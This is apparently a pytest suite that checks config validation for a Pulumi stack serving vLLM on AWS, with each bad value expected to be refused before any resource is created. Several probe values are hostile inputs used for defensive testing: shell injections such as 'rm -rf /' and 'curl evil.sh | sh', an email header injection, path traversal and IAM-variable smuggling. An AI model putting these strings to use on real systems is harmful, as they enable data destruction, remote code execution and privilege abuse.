"""Every bad stack config is refused before the first resource, in one line naming the key.

Two layers. The program runs under Pulumi's mocks (stack_helpers.run_stack) with one key
overridden: the run must fail with a one-line `pulumi.RunError` that starts with the key, and
the mocks must have recorded no resource at all (not even the AWS provider). The checks in
stacks.validation are then tested as plain functions, with the values AWS documents.

The mocks answer the zone lookup with three zones (<region>a, b, c), so eu-north-1, the
stacks' region, has three zones here as it has in AWS.
"""

from __future__ import annotations

import ipaddress
import json
from pathlib import Path

import pulumi
import pytest

from stack_helpers import FIXTURE_SPECS, PROJECT, REPO_ROOT, run_stack
from stacks import validation
from stacks.validation import InvalidValue


def key(name: str) -> str:
    return f"{PROJECT}:{name}"


def refused(stack: str, overrides: dict, config_key: str, *fragments: str) -> str:
    """Run `stack` with `overrides`; assert a one-line refusal naming `config_key`, nothing registered."""
    recorded: list = []
    with pytest.raises(pulumi.RunError) as info:
        run_stack(stack, overrides=overrides, spec=FIXTURE_SPECS[stack], recorded=recorded)
    message = str(info.value)
    assert "\n" not in message, message
    assert message.startswith(f"{config_key}: "), message
    for fragment in fragments:
        assert fragment in message, message
    assert recorded == [], f"registered before refusing: {[f'{r.type}::{r.name}' for r in recorded]}"
    return message


# ---- the probes, run through the program ------------------------------------------------

# (stack, overrides, key named, a fragment of the reason)
PROBES = [
    # the zones' count is the plan's (constraints.availability_zones): a stack file may not set it
    ("prod", {key("availabilityZones"): 4}, key("availabilityZones"), "decided by the plan"),
    ("prod", {key("availabilityZones"): 99}, key("availabilityZones"), "decided by the plan"),
    ("dev", {key("natPerAz"): "maybe"}, key("natPerAz"), "decided by the plan"),
    ("prod", {key("flowLogRetentionDays"): 1}, key("flowLogRetentionDays"), "decided by the plan"),
    # the same zone twice in prod, zones of another region, a zone the region does not offer
    ("prod", {key("availabilityZoneNames"): ["eu-north-1a", "eu-north-1a"]}, key("availabilityZoneNames"),
     "more than once"),
    ("prod", {key("availabilityZoneNames"): ["eu-central-1a", "eu-central-1b"]}, key("availabilityZoneNames"),
     "not an availability zone of eu-north-1"),
    ("prod", {key("availabilityZoneNames"): ["eu-north-1a", "eu-north-1d"]}, key("availabilityZoneNames"),
     "eu-north-1d not available"),
    ("dev", {key("availabilityZoneNames"): ["eu-north-1a"]}, key("availabilityZoneNames"), "load balancer"),
    ("prod", {key("availabilityZoneNames"): ["eu-north-1a", "eu-north-1b", "eu-north-1c"]},
     key("availabilityZoneNames"), "list exactly 2, got 3"),
    ("prod", {key("availabilityZoneNames"): "eu-north-1a"}, key("availabilityZoneNames"), "list"),
    # VPC blocks AWS refuses or the layout cannot hold
    ("prod", {key("vpcCidr"): "10.0.0.0/8"}, key("vpcCidr"), "/16 to /28"),
    ("prod", {key("vpcCidr"): "fd00:42::/56"}, key("vpcCidr"), "IPv6"),
    ("prod", {key("vpcCidr"): "0.0.0.0/0", key("clientCidrs"): ["10.1.0.0/16"]}, key("vpcCidr"), "/16 to /28"),
    ("prod", {key("vpcCidr"): "0.0.0.0/1", key("clientCidrs"): ["10.1.0.0/16"]}, key("vpcCidr"), "/16 to /28"),
    ("prod", {key("vpcCidr"): "10.42.0.1/16"}, key("vpcCidr"), "host bits"),
    ("prod", {key("vpcCidr"): "52.10.0.0/16"}, key("vpcCidr"), "not a private range"),
    ("prod", {key("vpcCidr"): "172.17.0.0/16"}, key("vpcCidr"), "Docker"),
    ("prod", {key("vpcCidr"): "10.42.0.0/19"}, key("vpcCidr"), "use a /18 or larger"),
    # clients: IPv6 goes nowhere (the rules are cidr_ipv4); the internet, however spelled
    ("prod", {key("clientCidrs"): ["fd00::/8"]}, key("clientCidrs"), "IPv6"),
    ("prod", {key("clientCidrs"): ["0.0.0.0/0"]}, key("clientCidrs"), "internet"),
    ("prod", {key("clientCidrs"): ["0.0.0.0/1", "128.0.0.0/1"]}, key("clientCidrs"), "internet"),
    # nine blocks that together are all of IPv4
    ("prod", {key("clientCidrs"): ["0.0.0.0/4", "16.0.0.0/4", "32.0.0.0/3", "64.0.0.0/2", "128.0.0.0/2",
                                   "192.0.0.0/3", "224.0.0.0/4", "240.0.0.0/4", "10.0.0.0/8"]},
     key("clientCidrs"), "internet"),
    ("prod", {key("clientCidrs"): ["10.0.0.0/8", "10.0.0.0/8"]}, key("clientCidrs"), "more than once"),
    ("prod", {key("clientCidrs"): "10.0.0.0/8"}, key("clientCidrs"), "list"),
    # buckets and IAM through the weights URI
    ("prod", {key("weightsUri"): "s3://My_Bucket/models/chat"}, key("weightsUri"), "bucket name"),
    ("prod", {key("weightsUri"): "s3://ab/models/chat"}, key("weightsUri"), "3 to 63"),
    ("prod", {key("weightsUri"): "s3://llm-weights/mod?ls"}, key("weightsUri"), "'?'"),
    ("prod", {key("weightsUri"): "s3://llm-weights/${aws:username}/chat"}, key("weightsUri"), "'${'"),
    ("prod", {key("weightsUri"): "s3://llm-weights/models/*"}, key("weightsUri"), "'*'"),
    ("prod", {key("weightsUri"): "s3://llm-weights"}, key("weightsUri"), "with a prefix"),
    ("prod", {key("weightsUri"): "https://llm-weights.s3.amazonaws.com/models"}, key("weightsUri"), "s3://"),
    # alert emails that are not emails
    ("prod", {key("alertEmails"): ["https://hooks.example.com/alert"]}, key("alertEmails"), "not an email"),
    ("prod", {key("alertEmails"): ["a@b.c; rm -rf /"]}, key("alertEmails"), "not an email"),
    ("prod", {key("alertEmails"): ["oncall@example.com\nBcc: x@example.com"]}, key("alertEmails"), "not an email"),
    # ports, durations, grace
    ("prod", {key("serverPort"): 70000}, key("serverPort"), "1-65535"),
    ("prod", {key("serverPort"): 0}, key("serverPort"), "1-65535, got 0"),
    ("prod", {key("listenerPort"): -1}, key("listenerPort"), "1-65535"),
    ("prod", {key("serverPort"): "8000.5"}, key("serverPort"), "whole number"),
    ("prod", {key("healthCheckGraceSeconds"): -5}, key("healthCheckGraceSeconds"), "at least 0"),
    ("prod", {key("deregistrationDelaySeconds"): 91}, key("deregistrationDelaySeconds"), "0-90"),
    ("prod", {key("waitForCapacityTimeout"): "forever"}, key("waitForCapacityTimeout"), "not a duration"),
    ("prod", {key("waitForCapacityTimeout"): "0"}, key("waitForCapacityTimeout"), "positive"),
    ("prod", {key("waitForCapacityTimeout"): "-10m"}, key("waitForCapacityTimeout"), "positive"),
    ("prod", {key("waitForCapacityTimeout"): "45 minutes"}, key("waitForCapacityTimeout"), "not a duration"),
    # a prod stack is prod whatever the label says
    ("prod", {key("environment"): "dev"}, key("environment"), "contradicts the stack name 'prod'"),
    ("staging", {key("environment"): "prod"}, key("environment"), "contradicts"),
    ("prod", {key("environment"): "qa"}, key("environment"), "not one of dev, staging, prod"),
    # plan paths from the repository root, inside it
    ("prod", {key("plan"): str(REPO_ROOT / "examples" / "eu-chat-assistant.yaml")}, key("plan"), "not relative"),
    ("prod", {key("plan"): "../../etc/plan.yaml"}, key("plan"), "outside the repository"),
    ("prod", {key("plan"): "examples/../../x/examples/eu-chat-assistant.yaml"}, key("plan"), "outside"),
    ("prod", {key("plan"): "~/plan.yaml"}, key("plan"), "not relative"),
    ("prod", {key("plan"): "examples/missing.yaml"}, key("plan"), "no such file"),
    ("prod", {key("month"): "2027-13"}, key("month"), "YYYY-MM"),
    # the server, the image, the AMI owner, booleans
    ("prod", {key("vllmImage"): "vllm/vllm-openai:v0.10; curl evil.sh | sh"}, key("vllmImage"), "image reference"),
    ("prod", {key("healthPath"): "health"}, key("healthPath"), "health check path"),
    ("prod", {key("amiOwner"): "someone"}, key("amiOwner"), "12-digit"),
    # the region still goes first among what the plan decides
    ("prod", {"aws:region": ""}, "aws:region", "not set"),
]


@pytest.mark.parametrize("stack,overrides,config_key,fragment", PROBES,
                         ids=[f"{p[0]}-{next(iter(p[1]))}-{i}" for i, p in enumerate(PROBES)])
def test_bad_config_refused_before_any_resource(stack, overrides, config_key, fragment):
    refused(stack, overrides, config_key, fragment)


def test_refusal_shows_a_newline_in_a_value_escaped():
    message = refused("prod", {key("weightsUri"): "s3://llm-weights/models\nchat"}, key("weightsUri"), "\\n")
    assert "control character" in message


def test_zone_lookup_runs_after_the_plain_checks(monkeypatch):
    """A value wrong on its own is refused without asking AWS anything; an accepted config asks
    once, before the provider."""
    import stacks.config

    asked: list[str] = []
    lookup = stacks.config.available_zones
    monkeypatch.setattr(stacks.config, "available_zones", lambda region: asked.append(region) or lookup(region))
    with pytest.raises(pulumi.RunError):
        run_stack("prod", overrides={key("serverPort"): 0}, spec=FIXTURE_SPECS["prod"])
    assert asked == []
    run = run_stack("prod", spec=FIXTURE_SPECS["prod"])
    assert asked == ["eu-north-1"]
    lookups = [c for c in run.calls if c[0] == "aws:index/getAvailabilityZones:getAvailabilityZones"]
    assert len(lookups) == 1, run.calls


# ---- what is accepted reaches the resources -----------------------------------------------------

def with_zones(spec, fleet_zones: int):
    """`spec` with a network over `fleet_zones` zones, as the planner shapes it for that many."""
    network = spec.network.model_copy(update={"fleet_zones": fleet_zones, "private_subnets": max(fleet_zones, 2),
                                              "nat_gateways": max(fleet_zones, 2)})
    return spec.model_copy(update={"network": network})


@pytest.mark.parametrize("zones", [4, 99])
def test_plan_wanting_more_zones_than_the_region_has_refused_before_any_resource(zones):
    """constraints.availability_zones: 4 in a three-zone region used to fail mid-apply after 39-57
    resources (99: a ValueError after the provider and the Network component existed)."""
    recorded: list = []
    with pytest.raises(pulumi.RunError) as info:
        run_stack("prod", spec=with_zones(FIXTURE_SPECS["prod"], zones), recorded=recorded)
    message = str(info.value)
    assert "\n" not in message and message.startswith(f"{key('plan')}: constraints.availability_zones"), message
    assert f"needs {zones} availability zones; eu-north-1 has 3 available" in message, message
    assert recorded == []


def test_vpc_too_small_for_the_plans_zones_refused_before_any_resource():
    recorded: list = []
    with pytest.raises(pulumi.RunError) as info:
        run_stack("prod", spec=with_zones(FIXTURE_SPECS["prod"], 3), overrides={key("vpcCidr"): "10.42.0.0/19"},
                  recorded=recorded)
    assert str(info.value).startswith(f"{key('vpcCidr')}: 10.42.0.0/19 holds 2 /20 block(s); the network needs 4")
    assert recorded == []


def test_accepted_values_reach_the_resources():
    run = run_stack("prod", spec=with_zones(FIXTURE_SPECS["prod"], 3), overrides={
        key("availabilityZoneNames"): ["eu-north-1c", "eu-north-1a", "eu-north-1b"],
        key("vpcCidr"): "10.8.0.0/18",
        key("clientCidrs"): ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "203.0.113.0/24"],
        key("alertEmails"): ["oncall@example.com", "o'brien+llm@ops.example.co.uk"],
        key("serverPort"): 8080,
        key("healthCheckGraceSeconds"): 0,
        key("waitForCapacityTimeout"): "1h30m",
        key("weightsUri"): "s3://llm.weights-eu/models/chat/",
    })
    private = [s for s in run.of_type("aws:ec2/subnet:Subnet") if s.inputs["tags"]["tier"] == "private"]
    assert [s.inputs["availabilityZone"] for s in private] == ["eu-north-1c", "eu-north-1a", "eu-north-1b"]
    assert run.one("aws:ec2/vpc:Vpc").inputs["cidrBlock"] == "10.8.0.0/18"
    rules = run.of_type("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule")
    assert {r.inputs.get("cidrIpv4") for r in rules} >= {"10.0.0.0/8", "203.0.113.0/24"}
    for asg in run.of_type("aws:autoscaling/group:Group"):
        assert asg.inputs["healthCheckGracePeriod"] == 0, asg
        assert asg.inputs["waitForCapacityTimeout"] == "1h30m", asg
        assert len(asg.inputs["vpcZoneIdentifiers"]) == 3, asg
    assert run.one("aws:lb/targetGroup:TargetGroup").inputs["port"] == 8080
    endpoints = [s.inputs["endpoint"] for s in run.of_type("aws:sns/topicSubscription:TopicSubscription")]
    assert endpoints == ["oncall@example.com", "o'brien+llm@ops.example.co.uk"]
    weights = next(p for p in run.of_type("aws:iam/rolePolicy:RolePolicy") if p.name.endswith("weights-read"))
    assert "arn:aws:s3:::llm.weights-eu/models/chat/*" in weights.inputs["policy"]


def test_dev_without_pinned_zones_spans_the_regions_first_two():
    run = run_stack("dev", spec=FIXTURE_SPECS["dev"])
    private = [s for s in run.of_type("aws:ec2/subnet:Subnet") if s.inputs["tags"]["tier"] == "private"]
    assert [s.inputs["availabilityZone"] for s in private] == ["eu-north-1a", "eu-north-1b"]
    (asg,) = run.of_type("aws:autoscaling/group:Group")
    assert asg.inputs["vpcZoneIdentifiers"] == [f"{private[0].name}-id"], asg


def test_label_that_agrees_with_the_stack_name_is_accepted():
    run = run_stack("staging", spec=FIXTURE_SPECS["staging"], overrides={key("environment"): "staging"})
    assert run.outputs["fleet_summary"]["environment"] == "staging"


# ---- the checks as plain functions --------------------------------------------------------------

@pytest.mark.parametrize("stack,label,expected", [
    ("prod", None, "prod"), ("prod", "prod", "prod"), ("Prod", None, "prod"), ("eu-prod", None, "prod"),
    ("production", None, "prod"), ("team.prod", None, "prod"), ("dev", None, "dev"), ("alice-dev", "dev", "dev"),
    ("pre-prod", "staging", "staging"), ("products", "dev", "dev"), ("sandbox", "dev", "dev"),
])
def test_stack_environment_accepts(stack, label, expected):
    assert validation.stack_environment(stack, label) == expected


@pytest.mark.parametrize("stack,label,fragment", [
    ("prod", "dev", "contradicts"), ("eu-prod", "staging", "contradicts"), ("production", "dev", "contradicts"),
    ("dev-to-prod", None, "several environments"), ("sandbox", None, "names no environment"),
    ("sandbox", "qa", "not one of"),
])
def test_stack_environment_refuses(stack, label, fragment):
    with pytest.raises(InvalidValue, match=fragment):
        validation.stack_environment(stack, label)


@pytest.mark.parametrize("name", ["llm-weights", "a.b.c", "abc", "a" * 63, "my-bucket-2027", "x1.example.com"])
def test_bucket_names_aws_accepts(name):
    assert validation.bucket_name(name) == name


@pytest.mark.parametrize("name", ["ab", "a" * 64, "My-Bucket", "my_bucket", "-bucket", "bucket-", "my..bucket",
                                  "my.-bucket", "192.168.5.4", "xn--bucket", "sthree-bucket",
                                  "amzn-s3-demo-bucket", "bucket-s3alias", "bucket--ol-s3", "bucket.mrap",
                                  "bucket--x-s3", "bucket--table-s3", "bucket name"])
def test_bucket_names_aws_refuses(name):
    with pytest.raises(InvalidValue, match="bucket name"):
        validation.bucket_name(name)


def test_weights_uri_splits_bucket_and_prefix():
    assert validation.weights_uri("s3://llm-weights/models/chat/") == ("llm-weights", "models/chat")
    for uri in ("s3://b/mod?ls", "s3://b/${aws:username}", "s3://b/a*", "s3://b//", "s3:/b/p", "s3://b/p\tq"):
        with pytest.raises(InvalidValue):
            validation.weights_uri(uri)


@pytest.mark.parametrize("value", ["oncall@example.com", "first.last+tag@sub.example.co.uk", "o'brien@example.ie"])
def test_emails_accepted(value):
    assert validation.email(value) == value


@pytest.mark.parametrize("value", ["https://example.com", "a@b.c; rm -rf /", "a@b.c", "@example.com",
                                   "oncall@", "on call@example.com", "a..b@example.com", ".a@example.com",
                                   "a.@example.com", "a@-example.com", "a@example.com\n", "a@exa_mple.com"])
def test_emails_refused(value):
    with pytest.raises(InvalidValue):
        validation.email(value)


def test_emails_refuse_duplicates_in_any_case():
    with pytest.raises(InvalidValue, match="more than once"):
        validation.emails(["a@example.com", "A@example.com"])


@pytest.mark.parametrize("text,ns", [
    # Go's time.ParseDuration, worked by hand
    ("45m", 45 * 60 * 10 ** 9), ("1h30m", 5400 * 10 ** 9), ("90s", 90 * 10 ** 9), ("1.5h", 5400 * 10 ** 9),
    (".5m", 30 * 10 ** 9), ("10m0s", 600 * 10 ** 9), ("0", 0), ("-10m", -600 * 10 ** 9), ("+2h", 7200 * 10 ** 9),
    ("300ms", 3 * 10 ** 8), ("2us", 2000), ("2µs", 2000), ("7ns", 7),
])
def test_go_durations(text, ns):
    assert validation.go_duration_ns(text) == ns


@pytest.mark.parametrize("text", ["forever", "45", "45 m", " 45m", "45M", "1d", "m", "", "1h 30m", "3000000h"])
def test_go_durations_refused(text):
    with pytest.raises(InvalidValue):
        validation.go_duration_ns(text)


def test_public_addresses_by_hand():
    net = ipaddress.ip_network
    # 0.0.0.0/0 less RFC 1918 (2^24 + 2^20 + 2^16) and 100.64.0.0/10 (2^22)
    assert validation.public_addresses([net("0.0.0.0/0")]) == (2 ** 32 - 2 ** 24 - 2 ** 20 - 2 ** 16 - 2 ** 22, 0)
    # the two halves are the whole; listing a private block again changes nothing
    assert validation.public_addresses([net("0.0.0.0/1"), net("128.0.0.0/1"), net("10.0.0.0/8")]) == \
        validation.public_addresses([net("0.0.0.0/0")])
    assert validation.public_addresses([net("10.0.0.0/8"), net("192.168.1.0/24")]) == (0, 0)
    assert validation.public_addresses([net("203.0.113.0/24")]) == (256, 0)
    # IPv4 in IPv6 clothing is IPv4; ::/0 carries all of IPv4 through ::ffff:0:0/96
    mapped = validation.public_addresses([net("::ffff:0:0/97")])  # ::ffff:0.0.0.0/97 = 0.0.0.0/1
    assert mapped == validation.public_addresses([net("0.0.0.0/1")])
    v4, v6 = validation.public_addresses([net("::/0")])
    assert v4 == validation.public_addresses([net("0.0.0.0/0")])[0] and v6 == 2 ** 125
    assert validation.public_addresses([net("fd00::/8")]) == (0, 0)


def test_opens_to_internet_threshold_is_one_slash_8_of_public_space():
    net = ipaddress.ip_network
    assert validation.opens_to_internet([net("11.0.0.0/8")]) is None  # exactly 2^24: allowed
    assert validation.opens_to_internet([net("11.0.0.0/8"), net("12.0.0.0/32")])  # one more: the internet
    assert validation.opens_to_internet([net("2001:db8::/32")]) is None
    assert validation.opens_to_internet([net("2001:db8::/31")])


@pytest.mark.parametrize("cidr,fragment", [
    ("10.0.0.0/15", "/16 to /28"), ("10.0.0.0/29", "/16 to /28"), ("fd00::/48", "IPv6"),
    ("8.8.0.0/16", "private"), ("172.17.128.0/20", "Docker"), ("10.0.0.0/16 ", None), ("ten", "not a CIDR"),
])
def test_vpc_cidr(cidr, fragment):
    if fragment is None:
        assert validation.vpc_cidr(cidr) == "10.0.0.0/16"
        return
    with pytest.raises(InvalidValue, match=fragment):
        validation.vpc_cidr(cidr)


def test_vpc_room_by_hand():
    # a /18 holds four /20 blocks: three private subnets and the NAT block
    validation.vpc_room("10.0.0.0/18", 3)
    with pytest.raises(InvalidValue, match="use a /17 or larger"):
        validation.vpc_room("10.0.0.0/18", 4)
    with pytest.raises(InvalidValue, match="holds 0 /20"):
        validation.vpc_room("10.0.0.0/24", 2)


def test_zone_names():
    assert validation.zone_names(["eu-north-1b", "eu-north-1a"], "eu-north-1") == ("eu-north-1b", "eu-north-1a")
    for names, fragment in ((["eu-north-1a", "eu-north-1A"], "not an availability"),
                            (["eu-north-1a", "us-west-2-lax-1a"], "not an availability"),
                            (["eu-north-1a", "eu-north-1az"], "not an availability"),
                            (["eu-north-1a", " eu-north-1a"], "more than once")):
        with pytest.raises(InvalidValue, match=fragment):
            validation.zone_names(names, "eu-north-1")
    with pytest.raises(InvalidValue, match="list exactly 2, got 1"):
        validation.zones_count(("eu-north-1a",), 2, "the network")


def test_environment_words_name_the_planners_environments():
    from planner.provision import ENVIRONMENTS

    assert set(validation.ENVIRONMENTS) == set(ENVIRONMENTS) == set(validation.ENVIRONMENT_WORDS.values())


def test_plan_path_stays_in_the_repository(tmp_path):
    (tmp_path / "repo" / "plans").mkdir(parents=True)
    (tmp_path / "repo" / "plans" / "p.yaml").write_text("x")
    (tmp_path / "outside.yaml").write_text("x")
    (tmp_path / "repo" / "plans" / "link.yaml").symlink_to(tmp_path / "outside.yaml")
    root = tmp_path / "repo"
    assert validation.plan_path("plans/p.yaml", root) == (root / "plans" / "p.yaml").resolve()
    assert validation.plan_path("plans/../plans/p.yaml", root) == (root / "plans" / "p.yaml").resolve()
    for value, fragment in (("../outside.yaml", "outside"), ("plans/link.yaml", "outside"),
                            (str(tmp_path / "outside.yaml"), "not relative"), ("plans", "no such file")):
        with pytest.raises(InvalidValue, match=fragment):
            validation.plan_path(value, root)


@pytest.mark.parametrize("image", ["vllm/vllm-openai:v0.10.1.1", "vllm/vllm-openai", "localhost:5000/vllm:latest",
                                   "123456789012.dkr.ecr.eu-north-1.amazonaws.com/vllm:v1",
                                   "ghcr.io/org/vllm@sha256:" + "a" * 64])
def test_image_references_accepted(image):
    assert validation.image_reference(image) == image


@pytest.mark.parametrize("image", ["", "vllm/vllm-openai:v0.10 --privileged", "VLLM/openai", "vllm:tag:tag",
                                   "$(curl x)", "vllm/openai\n"])
def test_image_references_refused(image):
    with pytest.raises(InvalidValue):
        validation.image_reference(image)


def test_integers_and_lists_as_pulumi_hands_them():
    assert validation.integer("8000") == 8000 and validation.integer(" -5 ") == -5
    for raw in ("8000.0", "eight", "", "1e3", True):
        with pytest.raises(InvalidValue):
            validation.integer(raw)
    assert validation.string_list(json.dumps(["a", "b"])) == ["a", "b"]
    for raw in ("a,b", json.dumps({"a": 1}), json.dumps([1, 2])):
        with pytest.raises(InvalidValue):
            validation.string_list(raw)


def test_repository_plans_in_the_stack_files_pass():
    """The plans the three stack files name are inside the repository."""
    from stack_helpers import STACKS, stack_config

    for stack in STACKS:
        plan = stack_config(stack)[key("plan")]
        assert validation.plan_path(plan, REPO_ROOT).is_relative_to(Path(REPO_ROOT).resolve())


def test_pulumi_yaml_documents_every_key_the_program_reads(monkeypatch):
    """Pulumi.yaml's config block and the keys load_stack_settings reads are the same set, and
    the defaults it declares are the program's."""
    import yaml

    import stacks.config as config

    read: set[str] = set()
    original = pulumi.Config.get

    def recording_get(self, key, *args, **kwargs):
        read.add(self.full_key(key))
        return original(self, key, *args, **kwargs)

    monkeypatch.setattr(pulumi.Config, "get", recording_get)
    run_stack("prod", spec=FIXTURE_SPECS["prod"])
    documented = yaml.safe_load((REPO_ROOT / "Pulumi.yaml").read_text())["config"]
    refused = {key(name) for name in config.PLAN_OWNED_KEYS}  # read only to be refused
    assert read - refused == set(documented), (read - refused) ^ set(documented)
    defaults = {"vpcCidr": config.DEFAULT_VPC_CIDR, "vllmImage": config.DEFAULT_VLLM_IMAGE,
                "amiNameFilter": config.DEFAULT_AMI_NAME_FILTER, "amiOwner": config.DEFAULT_AMI_OWNER,
                "serverPort": config.DEFAULT_SERVER_PORT, "listenerPort": config.DEFAULT_LISTENER_PORT,
                "healthPath": config.DEFAULT_HEALTH_PATH,
                "deregistrationDelaySeconds": config.DEFAULT_DEREGISTRATION_DELAY_S,
                "healthCheckGraceSeconds": config.DEFAULT_HEALTH_CHECK_GRACE_S,
                "waitForCapacityTimeout": config.DEFAULT_WAIT_FOR_CAPACITY_TIMEOUT}
    for name, value in defaults.items():
        assert documented[key(name)]["default"] == value, name
